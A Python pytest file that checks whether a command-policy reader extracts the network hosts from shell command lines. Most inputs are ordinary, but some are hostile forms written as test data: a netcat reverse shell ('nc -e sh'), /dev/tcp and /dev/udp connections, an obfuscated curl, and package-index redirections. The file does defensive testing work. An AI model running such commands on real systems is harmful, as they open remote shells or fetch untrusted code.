import pytest

from tests.policy.reader import read


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl https://A.Example.:8443/x", ("a.example",)),
        ("curl -sSL -o out -H 'X: y' a.example/path", ("a.example",)),
        ("curl --output out user@a.example:80", ("a.example",)),
        ("curl -x http://proxy.example:3128 https://a.example", ("proxy.example", "a.example")),
        ("curl https://user:pw@a.example/", ("a.example",)),
        ("curl 'http://[2001:db8::1]:80/'", ("2001:db8::1",)),
        ("curl https://a.example/?q=*", ("a.example",)),
        ("curl https://a.example/$x", ("a.example",)),
        ("curl https://$host/x", ()),
        ("curl https://a.$domain/", ()),
        ("curl $url", ()),
        ("c''url http\"s\"://a.example", ("a.example",)),
        ("wget -q -O- http://a.example http://b.example", ("a.example", "b.example")),
        ("git clone git@h.example:o/r.git", ("h.example",)),
        ("git clone ssh://git@h.example:22/r", ("h.example",)),
        ("git push origin main:main", ()),
        ("git show HEAD:a.txt", ()),
        ("ssh -p 2222 user@h.example uptime", ("h.example",)),
        ("scp -P 22 a h.example:/b", ("h.example",)),
        ("rsync -a src/ user@h.example:dst", ("h.example",)),
        ("nc -w 3 h.example 80", ("h.example",)),
        ("nc -e sh 10.1.2.3 80", ("10.1.2.3",)),
        ("echo x > /dev/tcp/h.example/80", ("h.example",)),
        ("exec 3<>/dev/udp/h.example/53", ("h.example",)),
        ("pip install --index-url https://i.example/simple x", ("i.example",)),
        ("pip install --extra-index-url=https://i.example x", ("i.example",)),
        ("pip install git+https://h.example/r", ("h.example",)),
        ("npm config set registry http://r.example", ("r.example",)),
        ("sh -c 'curl https://a.example'", ("a.example",)),
        ("HTTPS_PROXY=http://p.example:1 make", ("p.example",)),
        ("export HTTPS_PROXY=http://p.example", ("p.example",)),
        ("ls docs/a.example", ()),
    ],
)
def test_the_hosts_of_a_command_line_are_named(text: str, hosts: tuple[str, ...]) -> None:
    assert set(read(text).script.hosts) == set(hosts)
